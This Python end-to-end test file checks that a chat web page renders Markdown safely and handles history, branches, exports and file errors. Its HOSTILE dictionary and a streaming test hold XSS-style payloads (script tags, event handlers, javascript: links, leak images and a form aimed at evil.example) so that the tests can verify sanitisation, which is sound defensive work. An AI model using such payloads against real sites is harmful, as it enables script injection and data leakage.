"""Conversations in a real Chromium: Markdown, hostile answers, history, branches, files and their errors."""

import json
import re
import struct
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from PIL import Image

if TYPE_CHECKING:
    from mmrt.tests.end_to_end.conftest import Server

    from .conftest import Page

pytestmark = pytest.mark.slow
EXAMPLES = Path(__file__).parents[2] / "examples"

MARKDOWN = """# Harbour

Three **boats** and *one* ~~old~~ `lamp`, see [the map](https://example.org/map) &amp; https://example.org/more.

| Boat | Length |
|:-----|-------:|
| Anna | 12<br>m |

1. First
2. Second
   - inner
   - [x] done

```python
if a < b:
    print("x" * 3)
```

> said

Area $A_1 = \\pi r_1^2$ for $5, or

$$
- x_1
= y_1
$$

![a chart](https://example.org/chart.png)
"""
INSIDE = "return document.querySelector('.answer .text').innerHTML.replace(/(title|aria-label)=\"Copied\"/g, '')"


def texts(page: "Page", selector: str) -> list[str]:
    found: list[str] = page.js("return [...document.querySelectorAll(arguments[0])].map((one) => one.textContent)", selector)
    return found


def clipboard(page: "Page") -> str:
    permissions = {"origin": page.url, "permissions": ["clipboardReadWrite", "clipboardSanitizedWrite"]}
    page.driver.execute_cdp_cmd("Browser.grantPermissions", permissions)
    return str(
        page.driver.execute_async_script("navigator.clipboard.readText().then(arguments[0], (error) => arguments[0](String(error)))")
    )


# -------------------------------------------------------------------------------------------------------------- Markdown


def test_markdown(page: "Page", tmp_path: Path) -> None:
    page.show(tmp_path, MARKDOWN)
    assert texts(page, ".text h3") == ["Harbour"] and texts(page, ".text strong") == ["boats"] and texts(page, ".text em") == ["one"]
    assert texts(page, ".text del") == ["old"] and texts(page, ".text p code:not(.formula)") == ["lamp"]
    assert "see the map & https://example.org/more." in page.answer
    links = page.js("return [...document.querySelectorAll('.text a')].map((one) => [one.href, one.rel, one.target])")
    assert [link[0] for link in links] == ["https://example.org/map", "https://example.org/more", "https://example.org/chart.png"]
    assert all(link[1:] == ["noopener noreferrer nofollow", "_blank"] for link in links)
    assert texts(page, ".text .wide td") == ["Anna", "12m"] and page.all(".text td br")
    assert texts(page, ".text > ol > li > span") == ["First", "Second"] and texts(page, ".text ol ul li") == ["inner", "done"]
    assert texts(page, ".text blockquote") == ["said"] and page.all(".text li input:checked:disabled")
    assert texts(page, ".text .formula") == ["A_1 = \\pi r_1^2", "- x_1\n= y_1"] and "for $5, or" in page.answer
    assert not page.all(".text img")
    page.click(".code button")
    page.until(lambda: page.all(".code button[aria-label=Copied]"), "the code is copied")
    assert clipboard(page) == 'if a < b:\n    print("x" * 3)'
    page.js("document.querySelector('.answer .tools button.copy').click()")
    page.until(lambda: clipboard(page) == MARKDOWN, "the whole answer is copied as it was written")


def test_a_streamed_answer_ends_like_a_whole_one(page: "Page") -> None:
    page.ask_to_say(MARKDOWN)
    page.wait_for_answer()
    streamed = page.js(INSIDE)
    assert "<h3" in streamed and "<table>" in streamed
    page.open()
    page.until(lambda: page.all(".answer"), "the conversation is shown again")
    assert page.js(INSIDE) == streamed


HOSTILE = {
    "script": "<script>window.ran = 1</script>\n\n<script src=https://evil.example/x.js></script>",
    "handlers": '<img src=x onerror="window.ran = 1">\n\n'
    '<svg onload="window.ran = 1"><a xlink:href="javascript:window.ran=1">x</a></svg>',
    "script links": "[a](javascript:window.ran=1) [b](JaVaScRiPt&colon;window.ran=1) [c](&#106;avascript:window.ran=1) "
    "<javascript:window.ran=1> [d](vbscript:x) [e]( java\tscript:window.ran=1)\n\n[f]: javascript:window.ran=1\n\n[f]",
    "data links": "[a](data:text/html,<script>window.ran=1</script>) "
    "![b](data:image/svg+xml,<svg/onload=window.ran=1>) [c](blob:x) [d](file:///etc)",
    "pictures": "![a](https://evil.example/?leak=1) ![b](/v1/models) "
    "<img src=https://evil.example/2>\n\n![][r]\n\n[r]: https://evil.example/3",
    "styles": "<style>* { display: none }</style>\n\n<div style='position:fixed;inset:0;z-index:99999;background:red'>x</div>",
    "forms": "<form action=https://evil.example><input name=key autofocus></form>\n\n"
    "<iframe src=/></iframe><meta http-equiv=refresh content=0;url=//evil.example>",
    "attributes": '[a](https://e.example "x\\" onmouseover=window.ran=1 style=position:fixed")\n\n'
    '```x" onclick="window.ran=1\ncode\n```',
    "quotations": ">" * 20_000 + " deep",
    "lists": "\n".join(f"{' ' * (2 * depth)}- x" for depth in range(300)),
    "emphasis": "_a" * 50_000,
    "brackets": "[" * 20_000 + "![" * 20_000,
    "columns": f"|{'a|' * 5000}\n|{'-|' * 5000}\n" + f"|{'a|' * 50}\n" * 500,
    "rows": f"|{'a|' * 40}\n|{'-|' * 40}\n" + "|\n" * 50_000,
    "blanks": "a" + " " * 90_000 + "b",
    "one word": "x" * 100_000,
    "tall letters": "Z" + "\u0310\u0334" * 4000 + " \u202e reversed",
    "nested marks": "**_" * 700 + "x" + "_**" * 700,
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_answer_neither_runs_nor_loads_nor_covers_anything(page: "Page", tmp_path: Path, name: str) -> None:
    page.show(tmp_path, HOSTILE[name])
    page.pause_ms(200)
    page.js("for (const one of document.querySelectorAll('.text a')) one.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }))")
    assert page.js("return window.ran ?? null") is None
    foreign = page.js(
        "return performance.getEntriesByType('resource').map(({ name }) => name).filter((name) => !name.startsWith(location.origin))"
    )
    assert foreign == []
    allowed = "h3,h4,h5,h6,p,span,strong,em,del,a,ul,ol,li,blockquote,pre,code,table,thead,tbody,tr,th,td,hr,br,div,button,svg,path"
    assert page.js(f"return document.querySelectorAll('.text :not({allowed})').length") == 0
    assert page.js("return document.querySelectorAll('.text [style], .text [onclick], .text [onmouseover], .text [src]').length") == 0
    schemes = page.js("return [...document.querySelectorAll('.text a')].map((one) => one.protocol)")
    assert set(schemes) <= {"https:", "http:", "mailto:"}
    uncovered = """return arguments[0].every((selector) => {
        const one = document.querySelector(selector);
        const { left, top, width, height } = one.getBoundingClientRect();
        return one.contains(document.elementFromPoint(left + width / 2, top + height / 2));
    })"""
    controls = ["#send", "#clear", "#key-open", "#fold"]
    page.until(lambda: page.js(uncovered, controls), "nothing is covered")
    assert page.js("return document.documentElement.scrollWidth <= innerWidth")


def test_a_hostile_answer_that_streams(page: "Page") -> None:
    page.ask_to_say(
        "<script>window.ran = 1</script>\n\n<img src=x onerror=window.ran=1> [a](javascript:window.ran=1) ![b](https://evil.example/1)"
    )
    assert "<script>window.ran = 1</script>" in page.wait_for_answer()
    assert page.js("return window.ran ?? null") is None and not page.all(".text :is(script, img)")
    assert page.js("return [...document.querySelectorAll('.text a')].map((one) => one.href)") == ["https://evil.example/1"]


def test_wide_things_scroll_in_their_box(page: "Page", tmp_path: Path) -> None:
    row = "|" + "a long cell of a table|" * 12
    page.show(tmp_path, f"{row}\n|{'-|' * 12}\n{row}\n\n```\n{'code ' * 100}\n```\n\n$$\n{'x + ' * 100}\n$$")
    for width in (1280, 360):
        page.open(width=width, height=740)
        page.until(lambda: page.all(".text table"), "the conversation is shown")
        boxes = page.js(
            "return ['.wide', '.code pre', 'pre.formula'].map((one) => document.querySelector(`.text ${one}`))"
            ".map((one) => one.scrollWidth > one.clientWidth)"
        )
        assert boxes == [True, True, True]
        assert page.js("return document.querySelector('#turns').scrollWidth <= document.querySelector('#turns').clientWidth")


# --------------------------------------------------------------------------------------------------------------- history


def test_a_reload_keeps_conversation_and_settings(page: "Page") -> None:
    page.find("#files").send_keys(str(EXAMPLES / "shapes.png"))
    page.click("#settings-open")
    page.find("[name=system]").send_keys("Be brief.")
    page.find("[name=temperature]").send_keys("0")
    page.click("[name=ignore_eos]")
    page.click("[name=ignore_eos]")
    page.ask("What colour is the circle?")
    assert page.wait_for_answer() == "Red."
    page.open()
    page.until(lambda: page.answer == "Red.", "the conversation is shown again")
    assert "What colour is the circle?" in page.text(".turn.user") and re.search(r"first text .* stop$", page.meta)
    page.until(lambda: page.js("return document.querySelector('.turn.user img')?.naturalWidth"), "the picture is shown again")
    assert page.text("#settings-open") == "Settings (2)"
    assert page.js("return document.querySelector('[name=system]').value") == "Be brief."
    page.ask("And how big is it?")  # with the picture
    page.until(lambda: len(page.all(".answer")) == 2, "the second answer begins")
    assert page.wait_for_answer() and not page.all("#turns .error")
    page.click("#settings-open")
    page.click("#settings-reset")
    page.open()
    assert page.text("#settings-open") == "Settings"


def test_a_reload_in_the_middle_of_an_answer(page: "Page", server: "Server") -> None:
    page.ask_for_long(4000)
    page.until(lambda: len(page.answer) > 50, "text has come")
    page.pause_ms(1500)
    before = page.answer
    page.open()
    page.until(lambda: len(page.answer) > len(before) + 50, "the answer goes on")
    assert page.answer.startswith(before[:40]) and len(page.all(".answer")) == 1
    server.kill("gateway")
    page.open()
    so_far = len(before)
    page.until(lambda: len(page.answer) > so_far + 100, "it goes on with another gateway")
    page.click("#stop")
    page.until(lambda: "stopped" in page.meta, "it is stopped")
    server.wait_until_empty()
    page.open()
    page.until(lambda: "stopped" in page.meta, "it stays so")


def test_a_reload_while_an_answer_ends(page: "Page") -> None:
    """It is there in the end, once, as it would have been."""
    page.ask_for_long(300)
    page.until(lambda: len(page.answer) > 20, "text has come")
    page.open()
    page.until(lambda: "300 tokens" in page.meta, "the whole answer is shown")
    page.open()
    page.until(lambda: "300 tokens" in page.meta and len(page.all(".answer")) == 1, "it is kept")


def test_the_system_prompt_is_the_first_setting(page: "Page") -> None:
    assert page.js("return document.querySelector('#settings [name]').name") == "system"


def branch(page: "Page") -> str:
    return page.text(".branches .number")


def test_edit_and_answer_again_begin_branches(page: "Page") -> None:
    page.ask_to_say("one")
    assert page.wait_for_answer() == "one"
    page.fill("[name=form_text]", "two")
    page.js("document.querySelector('[aria-label=\"Answer again\"]').click()")
    page.until(lambda: page.answer == "two" and branch(page) == "2/2", "another answer stands there")
    page.wait_for_answer()
    page.click("[aria-label='Earlier branch']")
    page.until(lambda: page.answer == "one" and branch(page) == "1/2", "the first is still there")
    page.fill("[name=form_text]", "three")
    page.js("document.querySelector('[aria-label=\"Edit and ask again\"]').click()")
    box = page.find(".editor textarea")
    assert box.get_attribute("value") == "Say it."
    box.send_keys(" Now!\n")
    page.until(lambda: page.answer == "three", "it is asked again")
    page.wait_for_answer()
    assert "Say it. Now!" in page.text(".turn.user") and branch(page) == "2/2"
    page.open()  # all branches are kept
    page.until(lambda: page.answer == "three", "the conversation is shown again")
    page.click("[aria-label='Earlier branch']")
    page.until(lambda: "Now!" not in page.text(".turn.user"), "the earlier question")
    assert texts(page, ".branches .number") == ["1/2", "2/2"] and page.answer == "two"  # the newest of its answers


def test_edit_can_be_left(page: "Page", tmp_path: Path) -> None:
    from selenium.webdriver.common.keys import Keys as keys

    page.show(tmp_path, "Answer.")
    page.js("document.querySelector('[aria-label=\"Edit and ask again\"]').click()")
    page.find(".editor textarea").send_keys("x", keys.ESCAPE)
    assert not page.all(".editor") and page.text(".turn.user p") == "And now?"


def test_an_edited_question_that_cannot_be_asked_yet_is_kept(page: "Page", tmp_path: Path) -> None:
    page.show(tmp_path, "Answer.")
    page.js("document.querySelector('[aria-label=\"Edit and ask again\"]').click()")
    page.find(".editor textarea").send_keys(" And then?")
    page.ask_for_long(3000)
    page.until(lambda: page.all("#playground[data-running]"), "an answer comes")
    page.find(".editor textarea").send_keys("\n")
    assert page.find(".editor textarea").get_attribute("value") == "And now? And then?"
    assert "An answer still comes" in page.text("#notices")
    page.click("#stop")
    page.until(lambda: not page.all("#playground[data-running]"), "it is stopped")
    page.fill("[name=max_tokens]", "-5")
    page.find(".editor textarea").send_keys("\n")
    assert page.find(".editor textarea").get_attribute("value") == "And now? And then?"
    page.fill("[name=max_tokens]", "5")
    page.find(".editor textarea").send_keys("\n")
    page.until(lambda: page.text(".turn.user p") == "And now? And then?" and not page.all(".editor"), "it is asked")
    page.wait_for_answer()


def test_delete_asks_once_more(page: "Page", tmp_path: Path) -> None:
    page.show(tmp_path, "First.", "Second.")
    buttons = "return [...document.querySelectorAll('.turn [aria-label=Delete]')]"
    page.js(f"{buttons}[2].click()")
    assert "Delete 2 turns?" in texts(page, ".turn [aria-label=Delete]") and len(page.all(".turn")) == 4
    page.js(f"{buttons}[2].click()")
    page.until(lambda: len(page.all(".turn")) == 2, "a question goes with its answer")
    page.open()
    page.until(lambda: page.answer == "First.", "the rest is kept")
    assert len(page.all(".turn")) == 2


def titles(page: "Page") -> list[str]:
    return texts(page, "#conversations .title")


def test_the_list_of_conversations(page: "Page") -> None:
    page.click("#history-open")
    assert page.find("#no-conversations").is_displayed()
    page.ask_to_say("first answer")
    page.wait_for_answer()
    page.click("#clear")
    page.fill("#prompt", "Something else?")
    page.click("#send")
    page.wait_for_answer()
    page.until(lambda: titles(page) == ["Something else?", "Say it."], "both are listed")
    page.js("document.querySelectorAll('#conversations .title')[1].click()")
    page.until(lambda: page.text(".turn.user p") == "Say it.", "the first is shown")
    page.js("document.querySelector('[aria-label=\"Rename “Say it.”\"]').click()")
    page.find("#conversations input").send_keys("A better name\n")
    page.until(lambda: "A better name" in titles(page), "it is renamed")
    page.open()
    page.until(lambda: "A better name" in titles(page) and page.all(".turn"), "the list stays open, and the name")
    for _ in range(2):
        page.js("document.querySelector('[aria-label=\"Delete “A better name”\"]').click()")
    page.until(lambda: titles(page) == ["Something else?"], "it is deleted")
    assert not page.all(".turn") and page.find("#welcome").is_displayed()
    page.open()
    page.until(lambda: titles(page) == ["Something else?"], "for good")


def test_export_and_import(page: "Page", tmp_path: Path) -> None:
    """With media and branches; without the key."""
    page.driver.execute_cdp_cmd("Browser.setDownloadBehavior", {"behavior": "allow", "downloadPath": str(tmp_path)})
    page.js("sessionStorage.setItem('mmrt-api-key', 's3cret')")
    page.find("#files").send_keys(str(EXAMPLES / "shapes.png"))
    page.ask_to_say("one")
    page.wait_for_answer()
    page.fill("[name=form_text]", "two")
    page.js("document.querySelector('[aria-label=\"Answer again\"]').click()")
    page.until(lambda: page.answer == "two" and not page.all(".answer[aria-busy]"), "another answer stands there")
    page.click("#history-open")
    page.click("#export")
    file = tmp_path / "mmrt-conversations.json"
    page.until(file.exists, "the file is there")
    text = file.read_text()
    assert "s3cret" not in text and json.loads(text)["format"] == "mmrt-conversations"
    page.forget()
    page.open()
    assert not page.all(".turn")
    page.find("#import-file").send_keys(str(file))
    page.until(lambda: page.answer == "two" and branch(page) == "2/2", "all is back")
    page.until(lambda: page.js("return document.querySelector('.turn.user img')?.naturalWidth"), "and the picture")


@pytest.mark.parametrize(
    "content, said",
    [
        ("x", "is not JSON"),
        ("[]", "is no export of this page"),
        ('{"format": "mmrt-conversations", "conversations": [{"turns": 1}]}', "conversation 1: it has no list"),
        (
            '{"format": "mmrt-conversations", "conversations": [{"turns": [{"id": "a", "parent": "b", "role": "user"}]}]}',
            "follows none",
        ),
        (
            '{"format": "mmrt-conversations", "conversations": [{"turns": [{"id": "a", "parent": null, "role": "system"}]}]}',
            "the role of a turn",
        ),
        (
            '{"format": "mmrt-conversations", "conversations": [{"turns": [],'
            ' "media": [{"id": "a", "name": "x.svg", "data": "data:image/svg+xml;base64,AAAA"}]}]}',
            "x.svg is neither",
        ),
    ],
)
def test_files_that_are_no_export(page: "Page", tmp_path: Path, content: str, said: str) -> None:
    (tmp_path / "some.json").write_text(content)
    page.find("#import-file").send_keys(str(tmp_path / "some.json"))
    page.until(lambda: said in page.text("#notices"), "the page says why")
    assert not page.all(".turn")


def test_an_export_that_is_too_large_to_be_imported_is_refused(page: "Page") -> None:
    script = """const [count, done] = arguments;
        Promise.all([import('/page/transfer.js'), import('/page/conversation.js')]).then(async ([transfer, { Conversation }]) => {
            const blob = new Blob([new Uint8Array(97e6)], { type: 'video/mp4' });
            const conversations = Array.from({ length: count }, () => new Conversation());
            const media = [1, 2].map((id) => ({ id: `${id}`, name: 'v.mp4', kind: 'video', mime: 'video/mp4', size: blob.size, blob }));
            conversations[0].add({ role: 'user', text: '', media, parent: null });
            done(await transfer.exported(conversations).then(({ size }) => `${size}`, (error) => error.message));
        })"""
    for count, otherwise in ((1, "Save its largest files"), (2, "Export conversations one by one")):
        said = page.driver.execute_async_script(script, count)
        assert said.startswith("This export has 259 MB; at most 256 MB can be imported again.") and otherwise in said, said


def test_a_picture_that_could_not_be_imported_is_not_attached(page: "Page", tmp_path: Path) -> None:
    (tmp_path / "x.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg"/>')
    page.find("#files").send_keys(str(tmp_path / "x.svg"))
    page.until(lambda: "x.svg: neither a picture" in page.text("#notices"), "the page says why")


def test_without_a_store_all_goes_on(page: "Page") -> None:
    script = "Object.defineProperty(window, 'indexedDB', { get() { throw new DOMException('no store here', 'SecurityError'); } })"
    found = page.driver.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": script})
    try:
        page.open()
        page.ask_to_say("fine")
        assert page.wait_for_answer() == "fine"
        page.until(lambda: "does not keep conversations" in page.text("#notices"), "the page says so")
    finally:
        page.driver.execute_cdp_cmd("Page.removeScriptToEvaluateOnNewDocument", found)


def test_200_turns(page: "Page", tmp_path: Path) -> None:
    page.show(tmp_path, *["A **short** answer."] * 100)
    assert len(page.all(".answer strong")) == 100
    page.ask_to_say("still here")
    page.until(lambda: page.answer == "still here" and not page.all(".answer[aria-busy]"), "it goes on")
    assert page.js("return document.querySelector('#turns').scrollTop > 1000")


# ----------------------------------------------------------------------------------------------------------------- looks


def test_theme_and_fold_outlive_a_reload(page: "Page") -> None:
    page.wait_for_pipeline()
    width = page.js("return document.querySelector('#playground').clientWidth")
    page.choose("#theme", "dark")
    page.click("#fold")
    assert page.js("return document.querySelector('#playground').clientWidth") > 1.5 * width
    page.open(scheme="light")
    assert not page.find("#live").is_displayed() and page.find("#fold").get_attribute("aria-expanded") == "false"
    assert page.js("return getComputedStyle(document.body).backgroundColor.match(/\\d+/g).map(Number)[0]") < 60
    looks = "return performance.getEntriesByType('resource').filter(({ name }) => name.includes('/page/state')).length"
    page.pause_ms(1500)
    assert page.js(looks) == 0, "nobody looks at the pipeline"
    page.click("#fold")
    page.wait_for_pipeline()
    page.choose("#theme", "")
    assert page.js("return document.documentElement.dataset.scheme") == "light"


def test_enter_and_shift_enter(page: "Page") -> None:
    from selenium.webdriver.common.keys import Keys as keys

    assert page.driver.switch_to.active_element.get_attribute("id") == "prompt"
    page.find("#prompt").send_keys("a", keys.SHIFT + keys.ENTER + keys.NULL, "b", keys.ENTER)
    page.wait_for_answer()
    assert page.text(".turn.user p") == "a\nb"


# ----------------------------------------------------------------------------------------------------------------- files


def test_a_file_that_is_too_large(page: "Page", tmp_path: Path) -> None:
    """It is refused before anything is read or sent."""
    with (tmp_path / "film.mp4").open("wb") as file:
        file.truncate(120_000_000)
    page.find("#files").send_keys(str(tmp_path / "film.mp4"))
    page.until(lambda: "film.mp4 has 120 MB; this server takes at most 50 MB" in page.text("#notices"), "the page says so")
    assert not page.all("#attachments .medium")


def test_files_that_are_too_large_together(page: "Page", tmp_path: Path) -> None:
    for name in ("a.mp4", "b.mp4"):
        with (tmp_path / name).open("wb") as file:
            file.truncate(30_000_000)
        page.find("#files").send_keys(str(tmp_path / name))
    page.ask("What moves?")
    page.until(lambda: "have 60 MB together" in page.text(".answer [role=alert]"), "the page says so")


def test_a_large_picture_is_sent_with_progress(page: "Page", tmp_path: Path) -> None:
    Image.new("RGB", (2400, 2400), (250, 10, 10)).save(tmp_path / "large.bmp")  # 17 MB
    page.js(
        """window.seen = new Set();
        new MutationObserver(() => window.seen.add(document.querySelector('.answer .meta span')?.textContent.replace(/\\d+ %/, 'N %')))
            .observe(document.querySelector('#turns'), { subtree: true, childList: true, characterData: true })"""
    )
    page.find("#files").send_keys(str(tmp_path / "large.bmp"))
    page.ask("What colour is it?")
    assert page.wait_for_answer() and not page.all("#turns .error")
    assert {"reading files: N %", "the server reads the files"} <= set(page.js("return [...window.seen]"))


def test_reading_120_mb_leaves_the_page_its_time(page: "Page") -> None:
    page.driver.set_script_timeout(120)
    script = """const [done] = arguments;
        const blob = new Blob(Array.from({ length: 120 }, () => new Uint8Array(1e6).fill(7)));
        import('/page/encode.js').then(async ({ encode, FilePart }) => {
            let longest = 0, last = performance.now();
            const timer = setInterval(() => { longest = Math.max(longest, performance.now() - last); last = performance.now(); }, 5);
            const body = await encode({ url: new FilePart({ name: 'x', kind: 'video', mime: 'video/mp4', blob }) });
            clearInterval(timer);
            const [head, tail] = [await body.slice(0, 60).text(), await body.slice(-30).text()];
            done([body.size, head, tail, longest]);
        })"""
    size, head, tail, longest = page.driver.execute_async_script(script)
    assert size == len('{"url":"data:video/mp4;base64,"}') + 160_000_000
    assert head.startswith('{"url":"data:video/mp4;base64,BwcH') and tail.endswith('BwcH"}')
    assert longest < 1000, longest


def test_an_error_speaks_of_the_picture(page: "Page", tmp_path: Path) -> None:
    (tmp_path / "broken.png").write_bytes(b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + bytes(40))
    page.find("#files").send_keys(str(EXAMPLES / "shapes.png"))
    page.find("#files").send_keys(str(tmp_path / "broken.png"))
    page.ask("What is it?")
    page.until(lambda: page.all(".answer [role=alert]"), "the error is shown")
    page.driver.get_log("browser")
    said = page.text(".answer [role=alert]")
    assert "this picture (broken.png)" in said and "messages[" not in said


def test_a_conversation_that_is_too_long(page: "Page") -> None:
    page.fill("#prompt", "word " * 20_000)
    page.click("#send")
    page.until(lambda: "too long for the model. Begin a new chat" in page.text(".answer [role=alert]"), "the page says what to do")
    page.driver.get_log("browser")


@pytest.mark.parametrize(
    ("code", "found"),
    [
        ("context_length_exceeded", [0, "context_length_exceeded", "This conversation is too long for the model."]),
        (503, [503, "", "m"]),
    ],
)
def test_codes_of_errors_in_a_stream(page: "Page", code: str | int, found: list[str | int]) -> None:
    script = """const [code, done] = arguments;
        Promise.all([import('/page/api.js'), import('/page/explain.js')]).then(async ([{ complete }, { explain }]) => {
            const fetch = window.fetch;
            window.fetch = async () => new Response(`data: ${JSON.stringify({ error: { message: 'm', code } })}\\n\\n`);
            try {
                await complete({ stream: true }, {}).next();
            } catch (error) {
                done([error.status, error.code, explain(error).split(' Begin')[0]]);
            } finally {
                window.fetch = fetch;
            }
        })"""
    assert page.driver.execute_async_script(script, code) == found


def test_a_server_that_is_gone(page: "Page") -> None:
    page.driver.execute_cdp_cmd("Network.enable", {})
    page.driver.execute_cdp_cmd("Network.setBlockedURLs", {"urls": ["*/v1/chat/completions"]})
    try:
        for with_file in (False, True):
            if with_file:
                page.click("#clear")
                page.find("#files").send_keys(str(EXAMPLES / "shapes.png"))
            page.ask("Hello?")
            page.until(lambda: "The server cannot be reached" in page.text(".answer [role=alert]"), "the page says what to do")
            assert "mmrt status" in page.text(".answer [role=alert]")
    finally:
        page.driver.execute_cdp_cmd("Network.setBlockedURLs", {"urls": []})
    page.driver.get_log("browser")


def test_stop_while_a_file_is_sent(page: "Page", tmp_path: Path) -> None:
    Image.new("RGB", (2400, 2400), (250, 10, 10)).save(tmp_path / "large.bmp")
    page.find("#files").send_keys(str(tmp_path / "large.bmp"))
    page.find("#prompt").send_keys("What colour is it?")
    page.js("document.querySelector('#send').click(); document.querySelector('#stop').click()")
    page.until(lambda: page.text(".answer [role=alert]") == "There is no answer.", "it is stopped")
    page.click(".answer .row button")
    assert page.wait_for_answer() and not page.all("#turns .error")
